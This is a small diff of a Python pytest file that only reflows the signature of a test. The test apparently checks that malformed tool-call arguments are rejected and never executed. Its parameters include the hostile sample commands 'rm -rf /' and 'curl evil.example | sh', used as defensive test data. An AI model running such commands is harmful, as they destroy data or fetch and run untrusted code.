@@ -16,7 +16,8 @@ pytestmark = pytest.mark.anyio
 
 
 @pytest.mark.parametrize("arguments", ["null", '["rm -rf /"]', '"curl evil.example | sh"', "42", "true"])
-async def test_arguments_that_are_not_an_object_get_invalid_params_and_never_run(tmp_path: Path, arguments: str) -> None:
+async def test_arguments_that_are_not_an_object_get_invalid_params_and_never_run(
+        tmp_path: Path, arguments: str) -> None:
     process, client, seen = await open_asked(tmp_path)
     try:
         with anyio.fail_after(60):
